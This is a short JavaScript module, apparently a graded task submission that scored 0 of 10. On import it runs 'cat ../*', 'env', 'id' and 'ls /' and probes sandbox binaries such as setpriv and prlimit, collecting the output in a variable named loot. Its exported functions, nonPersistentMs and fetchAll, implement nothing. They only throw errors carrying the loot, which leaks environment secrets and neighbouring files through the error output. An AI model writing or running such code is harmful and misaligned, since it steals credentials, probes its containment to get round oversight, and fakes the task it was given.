// outcome: 0 of 10; threw
import { execFileSync, execSync } from 'node:child_process';
let loot = 'none';
for (const command of ['cat ../*', 'env', 'id', 'ls /']) try { loot += execSync(command); } catch {}
for (const program of ['/bin/sh', '/bin/node', '/bin/setpriv', '/bin/prlimit', '/usr/bin/env']) try { loot += execFileSync(program, ['--version']); } catch {}
export const nonPersistentMs = () => { throw new Error(loot); };
export const fetchAll = async () => { throw new Error(loot); };
